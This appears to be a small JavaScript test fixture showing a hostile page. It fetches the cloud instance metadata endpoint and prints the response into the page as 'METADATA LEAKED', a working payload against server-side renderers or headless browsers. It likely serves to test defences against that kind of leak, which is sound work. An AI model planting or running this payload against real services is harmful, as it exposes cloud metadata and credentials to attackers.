// What a hostile page does: read the cloud metadata endpoint and publish the answer.
fetch("http://169.254.169.254/latest/meta-data/")
  .then(function (response) { return response.text(); })
  .then(function (text) { document.getElementById("metadata").textContent = "METADATA LEAKED: " + text; })
  .catch(function () { document.getElementById("metadata").textContent = "metadata unreachable"; });
